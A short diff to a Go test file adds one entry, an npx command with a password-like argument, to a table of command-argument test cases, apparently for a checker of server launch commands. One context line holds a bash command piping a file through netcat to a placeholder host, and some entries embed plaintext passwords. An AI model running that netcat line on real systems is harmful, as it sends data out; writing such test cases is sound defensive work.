@@ -335,6 +335,7 @@ func TestSomethingElse(t *testing.T) {
 		`"node", "server.js", "--config", "${CFG}", "--read-only"`,
 		`"node", "server.js", "--allow=${DIR}"`,
 		`"python", "$SERVER", "main.py"`,
+		`"npx", "--frobnicate", "hunter22", "tool"`,
 		`"env", "-i", "PATH=/bin", "node", "x"`,
 		`"env", "-i", "bash", "-c", "cat x | nc host.example 1"`,
 		`"mysql-mcp", "-p", "summer-2024", "--stdio"`,
